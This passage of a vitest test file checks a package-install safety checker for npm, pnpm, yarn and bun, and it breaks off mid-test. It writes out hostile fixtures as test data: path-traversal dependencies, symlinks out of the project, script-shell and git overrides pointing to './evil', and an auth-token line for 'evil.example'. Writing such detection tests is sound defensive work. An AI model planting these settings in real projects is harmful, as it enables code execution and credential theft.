// biome-ignore-all lint/suspicious/noTemplateCurlyInString: npm replaces these
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allowedSettings } from '../../src/data/install-settings.ts';
import type { PackageManager } from '../../src/data/package-managers.ts';
import { installedIn, listedIn, programsOutside } from '../../src/install/install-paths.ts';
import { membersOf } from '../../src/install/members.ts';
import { projectSettings } from '../../src/install/project-settings.ts';
import { workspaceOf } from '../../src/install/workspace.ts';
import { hasLinks } from '../left-out.ts';
import { folderWith } from '../project-shapes.ts';

/** npm's public registry, which anyone may read from. */
const publicRegistry = ['registry', 'npmjs', 'org'].join('.');

const home = '/home/nobody';
const functions = 'shop/src/app/app.functions';

function settingsFor(
  packageManager: PackageManager,
  files: Readonly<Record<string, string>>,
  env: Readonly<Record<string, string>> = {},
) {
  const top = folderWith({ [`${functions}/x.js`]: '', ...files });
  const place = {
    directory: path.join(top, functions),
    root: workspaceOf(path.join(top, functions), packageManager).root,
    top,
    env: { HOME: home, ...env },
  };
  return projectSettings(packageManager, place);
}

/** The settings with files in the user's home folder and in the functions folder. */
function settingsOf(
  packageManager: PackageManager,
  ofUser: Readonly<Record<string, string>>,
  ofFolder: Readonly<Record<string, string>>,
) {
  const within = (folder: string, files: Readonly<Record<string, string>>) =>
    Object.entries(files).map(([name, text]) => [`${folder}/${name}`, text] as const);
  const top = folderWith(Object.fromEntries([...within('home', ofUser), ...within(functions, ofFolder)]));
  const directory = path.join(top, functions);
  const env = { HOME: path.join(top, 'home') };
  return projectSettings(packageManager, { directory, root: directory, top, env });
}

describe('a folder outside of the project is no package', () => {
  const outside = '../../../../../victim';
  const link = { resolved: outside, link: true };
  const linked = { packages: { [outside]: { name: 'a', bin: { t: 'x' } }, 'node_modules/a': link } };

  test.each<[string, object]>([
    ['package.json', { dependencies: { a: `file:${outside}` } }],
    ['package.json', { dependencies: { a: outside } }],
    ['package.json', { devDependencies: { a: '~/victim' } }],
    ['package-lock.json', linked],
    ['npm-shrinkwrap.json', linked],
    ['node_modules/.package-lock.json', linked],
    ['package-lock.json', { packages: { 'node_modules/../../../../../../victim': { name: 'a' } } }],
    ['package-lock.json', { packages: { '/victim': { name: 'a' } } }],
    ['package-lock.json', { dependencies: { a: { version: `file:${outside}` } } }],
    ['package.json', { dependencies: { a: `workspace:${outside}` } }],
    ['package.json', { dependencies: { a: `file:${outside.replaceAll('.', '%2e')}` } }],
    ['node_modules/.package-lock.json', { packages: { a: { bin: { [`../${outside}/x`]: 'a.js' } } } }],
    // On Windows, a drive's working directory can be anywhere.
    ...['file:c:lib', 'link:C:\\lib', 'file:c:/lib'].map((range): [string, object] => [
      'package.json',
      { dependencies: { a: range } },
    ]),
    ['package-lock.json', { packages: { 'c:lib/node_modules/a': { name: 'a' } } }],
    ['package.json', { workspaces: ['\\\\server\\share\\*'] }],
  ])('in %s: %j', (name, content) => {
    const { dangers } = settingsFor('npm', { [`${functions}/${name}`]: JSON.stringify(content) });
    expect(dangers).toHaveLength(1);
    expect(dangers[0]).toContain(name);
  });

  test.each<[string, string]>([
    ['yarn.lock', `a@1.0.0:\n  name "../${outside}"\n  version "1.0.0"\n`],
    ['node_modules/.pnpm/lock.yaml', `packages:\n  ../${outside}@1.0.0:\n`],
    ['node_modules/.modules.yaml', `{"hoistedDependencies":{"a@1.0.0":{"../${outside}":"private"}}}`],
    ['pnpm-lock.yaml', `packages:\n  ../${outside}@1.0.0:\n`],
    ['package-lock.json', `{"packages": ${JSON.stringify(linked.packages)}, "packages": {}}`],
    ['package-lock.json', `<<<<<<< HEAD\n${JSON.stringify(linked)}\n=======\n{}\n>>>>>>> a\n`],
    ['package-lock.json', `{"a":${'['.repeat(9999)}${']'.repeat(9999)},${JSON.stringify(linked).slice(1)}`],
  ])('in %s, as a name or where only the package manager reads it: %s', (name, text) => {
    const { dangers } = settingsFor('pnpm', { [`${functions}/${name}`]: text });
    expect(dangers).toHaveLength(1);
    expect(dangers[0]).toContain(name);
  });

  test.each<[string, string]>([
    ['pnpm-workspace.yaml', `overrides:\n  a: link:${outside}\n`],
    ['pnpm-workspace.yaml', `catalogs: {b: {a: "file:${outside}"}}\n`],
    ['pnpm-lock.yaml', `importers:\n  .:\n    dependencies:\n      a:\n        version: link:${outside}\n`],
    ['pnpm-lock.yaml', `importers:\n  b/c/d/e: &b\n    a:\n      version: link:${outside}\n  .: *b\n`],
    ['pnpm-lock.yaml', `importers: {\n  b/c/d/e:\n    {}, .: {\n      a: link:${outside}\n  }}\n`],
    ['pnpm-lock.yaml', `snapshots:\n  b/c/d/e@1.0.0:\n    dependencies:\n      a: link:${outside}\n`],
    ['pnpm-lock.yaml', `packages:\n  a@1.0.0:\n    resolution: {directory: ${outside}, type: directory}\n`],
    ['pnpm-lock.yaml', `packages:\n  "path: ../${outside}@1.0.0":\n    a: 1\n`],
    ['pnpm-lock.yaml', `packages:\n  "x\\npath: ../${outside}@1.0.0":\n    a: 1\n`],
    ['pnpm-lock.yaml', `importers:\n  .:\n    a: link:x(b/../${outside}\n`],
    ['pnpm-lock.yaml', `importers:\n  .:\n    a: link:x}/../${outside}\n`],
  ])('in %s, from whatever folder of the workspace: %j', (name, text) => {
    const { dangers } = settingsFor('pnpm', { [`${functions}/${name}`]: text });
    expect(dangers).toEqual([`${functions}/${name} has packages in folders outside`]);
  });

  test.runIf(hasLinks)(
    'nor one that a package of the project names, or that a link in the project or of its programs leads to',
    () => {
      const local = { name: 'a', bin: 'cli.js', dependencies: { b: `file:../${outside}` } };
      const top = folderWith({
        'victim/package.json': '{}',
        'victim/key': '',
        [`top/${functions}/package.json`]: JSON.stringify({ dependencies: { a: 'file:./a', c: 'file:./c' } }),
        [`top/${functions}/a/package.json`]: JSON.stringify(local),
      });
      const directory = path.join(top, 'top', functions);
      symlinkSync(path.join(top, 'victim'), path.join(directory, 'c'));
      symlinkSync(path.join(top, 'victim', 'key'), path.join(directory, 'a', 'cli.js'));
      const place = { directory, root: directory, top: path.join(top, 'top'), env: { HOME: home } };
      expect(projectSettings('npm', place).dangers).toEqual([
        `${functions}/package.json has packages in folders outside`,
        `${functions}/a/package.json has packages in folders outside`,
        `${functions}/a/cli.js is a link that leads out of the project`,
      ]);
    },
  );

  test.runIf(hasLinks).each(['b', './b/', 'b/c/d', '.\\b', '../../b', '/b'])(
    'nor a link to a file outside, at any depth of a folder of programs: %s',
    (bin) => {
      const top = folderWith({
        'victim/key': '',
        [`top/${functions}/package.json`]: JSON.stringify({ dependencies: { a: 'file:./a' } }),
        [`top/${functions}/a/package.json`]: JSON.stringify({ name: 'a', directories: { bin } }),
        [`top/${functions}/a/b/ok.js`]: '',
        [`top/${functions}/a/b/c/d/ok.js`]: '',
      });
      const directory = path.join(top, 'top', functions);
      const place = { directory, root: directory, top: path.join(top, 'top'), env: { HOME: home } };
      symlinkSync('../ok.js', path.join(directory, 'a/b/c/inside'));
      expect(projectSettings('npm', place).dangers).toEqual([]);
      symlinkSync(path.join(top, 'victim', 'key'), path.join(directory, 'a/b/c/d/link'));
      expect(projectSettings('npm', place).dangers).toEqual([
        `${functions}/a/b/c/d/link is a link that leads out of the project`,
      ]);
    },
  );

  test.runIf(hasLinks).each([{ bin: '.\\b' }, { bin: { x: '../../b' } }, { directories: { bin: 'b' } }])(
    'nor is what a package names as its programs a link that leads out: %j',
    (named) => {
      const top = folderWith({
        'victim/key': '',
        [`top/${functions}/package.json`]: JSON.stringify(named),
      });
      const directory = path.join(top, 'top', functions);
      symlinkSync(path.join(top, 'victim'), path.join(directory, 'b'));
      const place = { directory, root: directory, top: path.join(top, 'top'), env: { HOME: home } };
      expect(projectSettings('npm', place).dangers).toEqual([
        `${functions}/b is a link that leads out of the project`,
      ]);
    },
  );

  test.each(['package.json', 'package-lock.json', 'yarn.lock', 'pnpm-lock.yaml'])(
    'what the user has for a registry is not sent in the open, as %s would have it',
    (name) => {
      const files = {
        [`${functions}/${name}`]: JSON.stringify({ dependencies: { a: 'http://b@Npm.example:80/a.tgz' } }),
        'home/.npmrc': '//npm.example/:_authToken=a\n',
      };
      const top = folderWith(files);
      const directory = path.join(top, functions);
      const place = { directory, root: directory, top, env: { HOME: path.join(top, 'home') } };
      expect(projectSettings('npm', place).dangers).toEqual([
        `${functions}/${name} sends what is yours for npm.example unencrypted`,
      ]);
    },
  );

  const openly = [
    'http://npm.exampl%65/a.tgz',
    'http://npm\uff0eexample/a.tgz',
    'HTTP:npm.example?a',
    'http:\\\\npm.example\\a',
    'http://u:p@x@NPM.example:80/a',
  ];
  const secretly = (text: string) =>
    JSON.stringify(text).replace('http:', '\\u0068ttp:').replaceAll('/', '\\u002f');

  test.each([
    ...openly.flatMap((address) => [
      ['package.json', JSON.stringify({ dependencies: { a: address } })],
      ['package-lock.json', `{"packages":{"node_modules/a":{"resolved":${JSON.stringify(address)}}}}`],
      ['package-lock.json', `{"packages":{"node_modules/a":{"resolved":${secretly(address)}}}}`],
      ['.npmrc', `registry=${address}\n`],
    ]),
    ['.npmrc', 'registry=${NONE?}ht${NONE?}tp://npm.example/\n'],
    ['.npmrc', '@a:registry=${NONE-http:}//npm.example/\n'],
    ['.npmrc', 'registry="http://npm.exampl\\u0065/"\n'],
    ['pnpm-workspace.yaml', 'registry: "\\x68ttp://npm.example/"\n'],
    ['pnpm-workspace.yaml', 'registry: "ht\\\n  tp://npm.example/"\n'],
  ])('nor in any other spelling of the address: %s with %j', (name, text) => {
    const files = { [`${functions}/${name}`]: text, 'home/.npmrc': '//npm.example/:_authToken=a\n' };
    const top = folderWith(files);
    const directory = path.join(top, functions);
    const place = { directory, root: directory, top, env: { HOME: path.join(top, 'home') } };
    expect(projectSettings('pnpm', place).dangers).not.toEqual([]);
  });

  test('but one of the project is, as package managers write it', () => {
    const files = {
      [`${functions}/package.json`]: JSON.stringify({ dependencies: { a: 'file:./lib', b: './lib' } }),
      [`${functions}/package-lock.json`]: JSON.stringify({
        packages: { '': { dependencies: { a: 'file:./lib', b: './lib' } }, lib: { bin: { a: 'bin/a.js' } } },
      }),
      [`${functions}/yarn.lock`]:
        '"a@file:../lib":\n  version "1.0.0"\n\n"b@../lib":\n  version "1.0.0"\n\nsimple-git@3.19.0:\n  exec: "npm:1"\n',
      [`${functions}/pnpm-lock.yaml`]:
        'importers:\n  a:\n    dependencies:\n      b:\n        specifier: ../lib\n        version: link:../lib\n      simple-git:\n        version: 3.19.0\npackages:\n  simple-git@3.19.0:\n    resolution: {type: directory, directory: ../lib}\n',
    };
    for (const packageManager of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(packageManager, files).dangers).toEqual([]);
  });

  test('nor does what a deprecated package or a comment says count', () => {
    const says = 'Moved: https://github.com/ada/x, git.';
    const files = {
      [`${functions}/.npmrc`]: '; C:\\tools\n# \\x41\nsave-exact=true\n',
      [`${functions}/pnpm-lock.yaml`]: `packages:\n\n  a@1.0.0:\n    deprecated: '${says}'\n\n  b@1.0.0:\n    deprecated: "${says}\\r\\n\\x1b\\"."\n\n  c@1.0.0:\n    deprecated: |-\n      ${says}\n`,
      [`${functions}/package-lock.json`]: JSON.stringify({
        packages: {
          'node_modules/a': { version: '1.0.0', deprecated: says, funding: says },
          'node_modules/jest-resolve-dependencies': { version: '1.0.0', integrity: 'sha512-a/b==' },
        },
      }),
    };
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, files).dangers).toEqual([]);
  });

  test('nor does the root of a workspace say from where its members name their folders', () => {
    const files = {
      'package.json': JSON.stringify({ workspaces: ['shop/src/app/*'] }),
      [`${functions}/package.json`]: JSON.stringify({ dependencies: { a: 'file:../../../lib' } }),
      'bun.lock':
        '{"workspaces": {"": {}, "shop/src/app/app.functions": {"dependencies": {"a": "file:../../../lib",},},}, "packages": {"a": ["a@file:shop/lib", {}],}}',
    };
    const locks = [
      '"a@file:shop/lib":\n  version "1.0.0"\n',
      '__metadata:\n  version: 10\n\n"a@file:../../../lib::locator=b%40workspace%3Ashop%2Fsrc%2Fapp%2Fapp.functions":\n  resolution: "a@file:../../../lib#../../../lib::hash=5&locator=b%40workspace%3Ashop%2Fsrc%2Fapp%2Fapp.functions"\n\n"b@workspace:shop/src/app/app.functions":\n  dependencies:\n    a: "file:../../../lib"\n',
    ];
    for (const lock of locks)
      expect(settingsFor('yarn', { ...files, 'yarn.lock': lock }).dangers).toEqual([]);
    expect(settingsFor('bun', files).dangers).toEqual([]);
  });

  test('but one of the project is', () => {
    const inside = '../../../packages/common';
    const lock = {
      packages: {
        '': { dependencies: { a: `file:${inside}` }, workspaces: ['packages/b'] },
        [inside]: { name: 'a', license: 'MIT/X11' },
        'node_modules/a': { resolved: inside, link: true },
        'node_modules/b': { resolved: 'packages/b', link: true },
        'node_modules/c': { version: '1.0.0', resolved: 'https://npm.example/c.tgz', integrity: 'sha1-a/b' },
        'node_modules/d': {
          version: '1.0.0',
          dependencies: { c: '~1.0.0', e: '>=1 <2 || ~3', f: '*', g: '' },
        },
      },
    };
    const files = {
      [`${functions}/package.json`]: JSON.stringify({ dependencies: { a: `file:${inside}`, b: '~1.2' } }),
      [`${functions}/node_modules/d/package.json`]: JSON.stringify({ dependencies: { c: '~1.0.0', f: '' } }),
      [`${functions}/package-lock.json`]: JSON.stringify(lock),
    };
    expect(settingsFor('npm', files).dangers).toEqual([]);
  });
});

describe('a workspace that is installed whole', () => {
  const above = {
    'package.json': JSON.stringify({ workspaces: [functions, 'packages/*'] }),
    'pnpm-workspace.yaml': `packages:\n  - ${functions}\n`,
  };

  test.each<[PackageManager, string, string]>([
    ['npm', '.npmrc', 'git=./evil'],
    ['npm', '.npmrc', '//evil.example/:_authToken=${SHOP_KEY}'],
    ['pnpm', '.npmrc', 'script-shell=./evil'],
    ['pnpm', '.pnpmfile.cjs', ''],
    ['pnpm', 'pnpm-workspace.yaml', `packages:\n  - ${functions}\npnpmfile: ./evil\n`],
    ['bun', 'bunfig.toml', '[install.security]\nscanner = "./evil.ts"'],
    ['yarn', '.yarnrc.yml', 'plugins: []'],
  ])('of %s is looked through at its root: %s', (packageManager, name, text) => {
    const { dangers } = settingsFor(packageManager, { ...above, [name]: text }, { SHOP_KEY: 'canary' });
    expect(dangers).toHaveLength(1);
    expect(dangers[0]).toContain(name);
    expect(dangers[0]).not.toContain('canary');
  });

  test.each<[PackageManager, string]>([
    ...[
      '@(shop)/**',
      'shop/src/app/app[.]functions',
      '*(shop)/**',
      'shop/src/app/app.function{s,t{1..3}}',
    ].flatMap((glob): [PackageManager, string][] =>
      (['npm', 'yarn', 'bun'] as const).map((one) => [one, JSON.stringify({ workspaces: [glob] })]),
    ),
    ['npm', JSON.stringify({ workspaces: ['x/{shop}/**'] })],
    ['npm', JSON.stringify({ workspaces: ['{a,b}'.repeat(20)] })],
    ['npm', JSON.stringify({ workspaces: [...Array(9).keys()].map((n) => `${'{a,b}'.repeat(9)}${n}`) })],
    ['bun', '{ "workspaces": ["shop/src/app/*"] /* all */ }'],
    ['bun', '{ "workspaces": ["shop/src/app/*"], "workspaces": [] }'],
  ])(
    'of %s stops the install where only the package manager can tell what belongs to it: %s',
    (one, text) => {
      const { dangers } = settingsFor(one, { 'package.json': text });
      expect(dangers).toEqual(['package.json is written in a way that only the package manager can read']);
    },
  );

  const linkOut = 'importers:\n  .:\n    dependencies:\n      a:\n        version: link:../../../victim\n';

  test.each<[PackageManager, string, string]>([
    ['pnpm', '.npmrc', 'modules-dir=../../../victim'],
    ['pnpm', '.pnpmfile.cjs', ''],
    ['pnpm', '.pnpmfile.mjs', ''],
    // Node takes these for the names that pnpm asks for.
    ['pnpm', '.pnpmfile.cjs.js', ''],
    ['pnpm', '.pnpmfile.cjs.json', ''],
    ['pnpm', '.pnpmfile.cjs.node', ''],
    ['pnpm', 'pnpmfile.js.js', ''],
    ['pnpm', '.PNPMFILE.cjs', ''],
    ['pnpm', 'package.yaml', 'dependencies: {}'],
    ['pnpm', 'package.json5', '{}'],
    ['yarn', '.yarn-metadata.json', '{}'],
    ['yarn', 'yarn.json', '{}'],
    ['yarn', '.pnp', ''],
    ['npm', 'npm-shrinkwrap.json', '{"packages": {"node_modules/a": {"bin": {"a": "../../../b"}}}}'],
    ['pnpm', 'pnpm-lock.yaml', linkOut],
    ['pnpm', 'node_modules/.pnpm/lock.yaml', linkOut],
    [
      'pnpm',
      'node_modules/.modules.yaml',
      '{"hoistedDependencies":{"a@1.0.0":{"../../../../victim":"public"}}}',
    ],
    ['pnpm', 'package.json', '{"publishConfig":{"directory":"../../.."}}'],
    ['bun', 'package.json', '{ "dependencies": { "a": "git+https://x.example" } /* all */ }'],
    ['bun', 'package.json', '{ "dependencies": { "a": "git+https://x.example", } }'],
  ])('of %s is looked through in each of its folders, too: %s with %s', (packageManager, name, text) => {
    const files = { ...above, [`packages/a/${name}`]: text };
    const { dangers } = settingsFor(packageManager, { 'packages/a/package.json': '{}', ...files });
    expect(dangers).toHaveLength(1);
    expect(dangers[0]).toContain(name === 'package.json' && packageManager === 'pnpm' ? '..' : name);
  });

  const listing = (...workspaces: string[]) => ({
    'package.json': JSON.stringify({ workspaces: [functions, ...workspaces] }),
    'pnpm-workspace.yaml': `packages: ${JSON.stringify([functions, ...workspaces])}\n`,
  });
  const text = JSON.stringify({ dependencies: { a: 'git+https://x.example' } });

  test.each([
    ['packages/*', 'packages/a'],
    ['./packages/*/', 'packages/a'],
    ['packages//./a', 'packages/a'],
    ['PACK*/*', 'packages/a'],
    ['packages/**', 'packages/.git/a'],
    ['**', 'a'],
    ['**/a', 'x/y/a'],
    ['x/**/a', 'x/a'],
    ['x/*/a', 'x/node_modules/a'],
    ['x/y**', 'x/y/z/a'],
    ['packages/{a,b}*', 'packages/bc'],
    ['!packages/a', 'packages/*', 'packages/a'],
    ['packages/*', '!packages/a', 'packages/a'],
    ['packages/*', '!packages/**', 'packages/a'],
  ])('is looked through wherever a glob may match: %s, %s', (...globs) => {
    const files = { ...listing(...globs.slice(0, -1)), [`${globs.at(-1)}/package.json`]: text };
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, files).dangers).toEqual([expect.stringContaining('has a fetched by git')]);
  });

  test('and also where a package of it has a workspace of its own, as Yarn has it', () => {
    const inner = {
      'packages/a/package.json': '{"workspaces": ["in/*"]}',
      'packages/a/in/b/package.json': text,
    };
    expect(settingsFor('yarn', { ...listing('packages/*'), ...inner }).dangers).toHaveLength(1);
  });

  test.each([
    ['packages/*', 'packages/a/b'],
    ['packages/*', 'examples/a'],
    ['packages/*/a', 'packages/a'],
    ['a', 'a/b'],
  ])('but not where none does: %s', (glob, folder) => {
    for (const broken of [text, '{ "version": <%= version %> }'])
      for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
        expect(settingsFor(one, { ...listing(glob), [`${folder}/package.json`]: broken }).dangers).toEqual(
          [],
        );
  });

  test.each([
    ...[
      '"packages/a"',
      'packages/x|packages/a',
      'packages/${a,b}',
      'packages/a b',
      "packages/'a'",
      'packages/a&',
    ],
    ...['packages/{a', 'packages/a}', 'packages/{a}', 'packages/{1..3}', '{,packages}'],
    ...['!!packages/a', ' packages/a', 'packages/a ', 'packages/?', 'packages/ΑΣ*', 'packages/\u212a*'],
  ])('has no glob that is read in different ways: %j', (glob) => {
    expect(settingsFor('npm', listing(glob)).dangers.join()).toContain('only the package manager can read');
  });

  test.each(['node_modules/a', 'packages/node_modules/*', '**/node_modules/a', 'node_modul{es,}/a'])(
    'has no packages in node_modules: %s',
    (glob) => {
      const root = { 'package.json': JSON.stringify({ workspaces: [functions, glob] }) };
      for (const one of ['npm', 'yarn', 'bun'] as const)
        expect(settingsFor(one, root).dangers).toHaveLength(1);
      const text = `packages:\n  - ${functions}\n  - "${glob}"\n`;
      expect(settingsFor('pnpm', { 'pnpm-workspace.yaml': text }).dangers).toHaveLength(1);
    },
  );

  test.runIf(hasLinks)('nor by a link to there', () => {
    const files = { [`${functions}/package.json`]: '{}', 'node_modules/a/package.json': text };
    const top = folderWith({ ...listing('packages/*'), ...files, 'packages/x.txt': '' });
    symlinkSync('../node_modules/a', path.join(top, 'packages/a'));
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    expect(projectSettings('pnpm', place).dangers).toContain('packages/a is a link that leads to packages');
  });

  const withLink = (link: string, real: string, ...globs: string[]) => {
    const top = folderWith({
      'top/shop/package.json': listing(...globs)['package.json'],
      [`top/shop/${functions}/package.json`]: '{}',
      'top/shop/packages/b/c/x.txt': '',
      'top/shop/node_modules/m/package.json': '{}',
      'top/hidden/a/package.json': '{}',
      'top/hidden/b/c/a/package.json': '{}',
    });
    const [repository, root] = [path.join(top, 'top'), path.join(top, 'top/shop')];
    // Also where the way to it is another link.
    symlinkSync('../hidden', path.join(root, 'way'));
    symlinkSync(path.join(repository, real), path.join(repository, link));
    const place = { directory: path.join(root, functions), root, top: repository, env: { HOME: home } };
    return (['npm', 'pnpm', 'yarn', 'bun'] as const).map((one) => projectSettings(one, place).dangers);
  };

  test.runIf(hasLinks).each([
    ['shop/packages/a', 'hidden/b/c/a', 'packages/*'],
    ['shop/packages/b/c/a', 'hidden/a', 'packages/**'],
    ['shop/packages/b/c/a', 'hidden/a', 'packages/*/*/a'],
    ['shop/packages/above', 'hidden', 'packages/*/*'],
    ['shop/packages/above', 'hidden', 'packages/**/a'],
    ['shop/packages/around', '', 'packages/**'],
    ['shop/packages/root', 'shop', 'packages/*'],
    ['shop/packages/modules', 'shop/node_modules', 'packages/**'],
    ['hidden/in-turn', 'hidden/b', 'way/**', 'shop/way'],
  ])(
    'has no links to packages where a glob may match: %s leads to %s by %s',
    (link, real, glob, named = link) => {
      for (const dangers of withLink(link, real, glob))
        expect(dangers).toContain(`${named} is a link that leads to packages`);
    },
  );

  test.runIf(hasLinks).each([
    ['shop/docs', 'hidden', 'packages/**'],
    ['shop/packages/above', 'hidden', 'packages/*'],
    ['shop/packages/b/c/a', 'hidden/a', 'packages/*/*'],
    ['shop/venv', '..', 'packages/*'],
    ['shop/node_modules/m/x', 'hidden', '**/none'],
  ])('but may have them where none does: %s leads to %s beside %s', (link, real, glob) => {
    for (const dangers of withLink(link, real, glob)) expect(dangers).toEqual([]);
  });

  test.runIf(hasLinks)('and what package managers link to in node_modules is no package of two stars', () => {
    const top = folderWith({ ...listing('*/*'), [`${functions}/package.json`]: '{}', 'node_modules/a': '' });
    symlinkSync(path.join('..', functions), path.join(top, 'node_modules/f'));
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    for (const one of ['npm', 'yarn'] as const) expect(projectSettings(one, place).dangers).toEqual([]);
  });

  test.runIf(hasLinks).each(['shop/packages/a', 'shop/packages/b/a', 'shop/packages/b/c/a'])(
    'nor, there, one out of the project: %s',
    (link) => {
      for (const dangers of withLink(link, '..', 'packages/**'))
        expect(dangers).toEqual([`${link} is a link that leads elsewhere`]);
    },
  );

  test.runIf(hasLinks)('but may have links to files, and to folders without packages', () => {
    const top = folderWith({
      ...above,
      [`${functions}/package.json`]: '{}',
      'docs/x.md': '',
      'packages/x': '',
    });
    for (const target of ['docs', 'docs/x.md'])
      symlinkSync(path.join(top, target), path.join(top, 'packages', path.basename(target)));
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(projectSettings(one, place).dangers).toEqual([]);
  });

  test.runIf(hasLinks)('but links that lead in circles come to an end', () => {
    const top = folderWith({ ...above, [`${functions}/package.json`]: '{}', 'a/x': '', 'b/x': '' });
    symlinkSync('.', path.join(top, 'a/self'));
    symlinkSync('loop', path.join(top, 'a/loop'));
    for (const name of ['c', 'd', 'e']) {
      symlinkSync('../b', path.join(top, 'a', name));
      symlinkSync('../a', path.join(top, 'b', name));
    }
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    expect(projectSettings('npm', place).dangers).toEqual([]);
  });

  test.each(['npm', 'yarn', 'bun'] as const)(
    'no second one has the folder, or the workspace that it belongs to, as %s may take either',
    (packageManager) => {
      const listing = (...workspaces: string[]) => JSON.stringify({ workspaces });
      const nested = { 'shop/package.json': listing('src/app/*'), 'package.json': listing('shop') };
      const both = { 'shop/package.json': listing('src/app/*'), 'package.json': listing('shop/src/*/*') };
      const own = { [manifest]: listing(), 'package.json': listing('shop/src/**') };
      for (const files of [nested, both, own])
        expect(settingsFor(packageManager, files).dangers).toEqual([
          'package.json has the folder in a second workspace',
        ]);
      const beside = { 'shop/package.json': listing('src/app/*'), 'package.json': listing('other/*') };
      expect(settingsFor(packageManager, beside).dangers).toEqual([]);
    },
  );

  test('but may leave node_modules out', () => {
    const root = { 'package.json': JSON.stringify({ workspaces: [functions, '!**/node_modules/**'] }) };
    expect(settingsFor('yarn', root).dangers).toEqual([]);
  });

  test.each<[PackageManager, string, string]>([
    [
      'pnpm',
      'pnpm-lock.yaml',
      "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: 1.0.0\n        version: link:lib\n",
    ],
    [
      'pnpm',
      'pnpm-lock.yaml',
      "lockfileVersion: '6.0'\ndependencies:\n  a:\n    specifier: 1.0.0\n    version: file:lib\n",
    ],
    ['yarn', 'yarn.lock', '# yarn lockfile v1\n\na@1.0.0:\n  version "1.0.0"\n  resolved "file:./lib"\n'],
    ['yarn', 'yarn.lock', '# yarn lockfile v1\n\na@1.0.0:\n  version "1.0.0"\n  resolved "./lib"\n'],
    [
      'yarn',
      'yarn.lock',
      '"a@npm:1.0.0":\n  version: 1.0.0\n  resolution: "a@file:./lib::locator=x%40workspace%3A."\n',
    ],
    [
      'yarn',
      'yarn.lock',
      '"a@npm:1.0.0":\n  version: 0.0.0-use.local\n  resolution: "a@portal:lib::locator=x%40workspace%3A."\n',
    ],
    ['bun', 'bun.lock', '{ "lockfileVersion": 1, "packages": { "a": ["a@./lib", {}] } }'],
    ['bun', 'bun.lock', '{ "lockfileVersion": 1, "packages": { "a": ["a@file:lib", {}] } }'],
    ['npm', 'package-lock.json', '{ "packages": { "node_modules/a": { "resolved": "lib", "link": true } } }'],
  ])('of %s, a folder that only %s leads to is looked through like any package', (one, name, lock) => {
    const files = { [manifest]: '{"dependencies":{"a":"1.0.0"}}', [`${functions}/${name}`]: lock };
    const of = (text: string) =>
      settingsFor(one, { ...files, [`${functions}/lib/package.json`]: text }).dangers;
    expect(of('{"name":"a","dependencies":{"b":"^1.0.0"}}')).toEqual([]);
    expect(of('{"name":"a","dependencies":{"b":"file:../../../../../../victim"}}')).toEqual([
      `${functions}/lib/package.json has packages in folders outside`,
    ]);
  });

  test.each<[PackageManager, string, string]>([
    ['bun', 'package.json', '{"dependencies":{"a":"file:./\xff"}}'],
    ['npm', 'package-lock.json', '{"packages":{"\xff":{"name":"a"}}}'],
    ['pnpm', 'pnpm-lock.yaml', 'importers:\n  .:\n    dependencies:\n      a: link:\xff\n'],
    ['pnpm', 'pnpm-workspace.yaml', 'packages: ["\xff"]\n'],
    ['yarn', 'yarn.lock', 'a@1.0.0:\n  resolved "file:./\xff"\n'],
    ['yarn', '.yarnrc.yml', 'compressionLevel: \xff\n'],
    ['bun', 'bun.lock', '{"packages":{"a":["a@./\xff"]}}'],
    ['npm', '.npmrc', 'fund=\xff\n'],
  ])('of %s, no %s has bytes that are not UTF-8', (one, name, text) => {
    const top = folderWith({ [`${functions}/x.js`]: '' });
    const directory = path.join(top, functions);
    writeFileSync(path.join(directory, name), Buffer.from(text, 'latin1'));
    const place = { directory, root: directory, top, env: { HOME: home } };
    expect(projectSettings(one, place).dangers).toContain(
      `${functions}/${name} is written in a way that only the package manager can read`,
    );
  });

  test.each<[PackageManager, string]>([
    ['pnpm', 'package.yaml'],
    ['pnpm', 'package.json5'],
    ['yarn', '.yarn-metadata.json'],
    ['yarn', 'yarn.json'],
  ])('a package of the project has its manifest for %s in no %s', (one, name) => {
    const files = { [manifest]: JSON.stringify({ dependencies: { a: 'file:./a' } }) };
    const { dangers } = settingsFor(one, { ...files, [`${functions}/a/${name}`]: '{}' });
    expect(dangers).toEqual([`it would read ${functions}/a/${name}`]);
  });

  test.each([
    { 'node_modules/b': { resolved: '../../victim', link: true } },
    { 'node_modules/b': { resolved: 'file:../victim' } },
    { 'node_modules/../../b': { resolved: 'https://npm.example/b.tgz' } },
  ])('nor does a package that npm copies have anything of a folder above it: %j', (packages) => {
    const files = { [manifest]: JSON.stringify({ dependencies: { a: 'file:./x/y/a' } }) };
    const lock = `${functions}/x/y/a/npm-shrinkwrap.json`;
    const { dangers } = settingsFor('npm', { ...files, [lock]: JSON.stringify({ packages }) });
    expect(dangers).toEqual([`${lock} has packages in folders outside`]);
  });

  test('but may have packages of the registry in a lockfile of its own', () => {
    const files = { [manifest]: JSON.stringify({ dependencies: { a: 'file:./a' } }) };
    const packages = { 'node_modules/b': { version: '1.0.0', bin: { b: 'b.js' } } };
    const lock = { [`${functions}/a/npm-shrinkwrap.json`]: JSON.stringify({ packages }) };
    expect(settingsFor('npm', { ...files, ...lock }).dangers).toEqual([]);
  });

  test.each(['', '# packages: none\n', '---\n', '{}\n'])(
    'has every folder below if only some releases of pnpm find none in it: %j',
    (list) => {
      const files = { [`${functions}/pnpm-workspace.yaml`]: list, [`${functions}/a/b/package.json`]: text };
      expect(settingsFor('pnpm', files).dangers).toEqual([expect.stringContaining('has a fetched by git')]);
      const settings = { ...files, [`${functions}/pnpm-workspace.yaml`]: 'catalog:\n  a: 1.0.0\n' };
      expect(settingsFor('pnpm', settings).dangers).toEqual([]);
